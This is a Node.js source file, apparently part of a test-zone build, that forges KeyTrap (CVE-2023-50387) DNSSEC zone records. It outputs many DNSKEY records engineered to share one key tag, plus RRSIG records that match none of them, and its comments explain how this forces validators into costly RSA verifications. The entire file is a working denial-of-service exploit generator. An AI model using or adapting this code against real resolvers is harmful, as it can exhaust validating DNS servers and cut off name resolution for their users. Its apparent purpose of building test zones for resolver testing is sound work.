// KeyTrap (CVE-2023-50387) material for the keytrap zone, in zone-file lines (build-lib.sh apply_keytrap).
//   node keytrap-forge.mjs keys ZONE COUNT STATE    -> COUNT RSASHA256 DNSKEY lines sharing one key tag;
//                                                      the tag is written to STATE
//   node keytrap-forge.mjs sigs OWNER TYPE LABELS ZONE TAG COUNT INCEPTION EXPIRATION
//                                                   -> COUNT RRSIG lines by "key TAG, algorithm 8" that verify
//                                                      with none of them
// The keys are one real RSA-2048 public key with two 16-bit words of the modulus changed: one holds the key's
// index, the other is set so the RFC 4034 Appendix B checksum gives the shared tag. Each stays a usable odd
// modulus, so every verification a validator attempts is a real modular exponentiation.
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';

const ALG_RSASHA256 = 8;

function keyTag(rdata) {
  let ac = 0;
  for (let i = 0; i < rdata.length; i++) ac += i & 1 ? rdata[i] : rdata[i] << 8;
  ac += (ac >> 16) & 0xffff;
  return ac & 0xffff;
}

function baseRdata() {
  const jwk = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ format: 'jwk' });
  const e = Buffer.from(jwk.e, 'base64url');
  const n = Buffer.from(jwk.n, 'base64url');
  // RFC 3110 §2: exponent length octet, exponent, modulus.
  return Uint8Array.from([1, 0, 3, ALG_RSASHA256, e.length, ...e, ...n]);
}

function forceTag(rdata, at, tag) {
  for (let w = 0; w < 0x10000; w++) {
    rdata[at] = w >> 8;
    rdata[at + 1] = w & 0xff;
    if (keyTag(rdata) === tag) return;
  }
  throw new Error(`no word value at ${at} gives tag ${tag}`);
}

function keys(zone, count, stateFile) {
  const base = baseRdata();
  const tag = keyTag(base);
  for (let i = 0; i < count; i++) {
    const rdata = Uint8Array.from(base);
    rdata[100] = (i + 1) >> 8;
    rdata[101] = (i + 1) & 0xff;
    forceTag(rdata, 150, tag);
    console.log(`${zone} 3600 IN DNSKEY 256 3 ${ALG_RSASHA256} ${Buffer.from(rdata.subarray(4)).toString('base64')}`);
  }
  writeFileSync(stateFile, `${tag}\n`);
}

function sigs(owner, type, labels, zone, tag, count, inception, expiration) {
  for (let i = 0; i < count; i++) {
    const sig = randomBytes(256);
    sig[0] = 0x01; // below any 2048-bit modulus, so the validator really exponentiates before rejecting it
    console.log(`${owner} 3600 IN RRSIG ${type} ${ALG_RSASHA256} ${labels} 3600 ${expiration} ${inception} ${tag} ${zone} ${sig.toString('base64')}`);
  }
}

const [cmd, ...args] = process.argv.slice(2);
if (cmd === 'keys') keys(args[0], Number(args[1]), args[2]);
else if (cmd === 'sigs') sigs(args[0], args[1], args[2], args[3], args[4], Number(args[5]), args[6], args[7]);
else { console.error('usage: keytrap-forge.mjs keys ZONE COUNT STATE | sigs OWNER TYPE LABELS ZONE TAG COUNT INCEPTION EXPIRATION'); process.exit(64); }
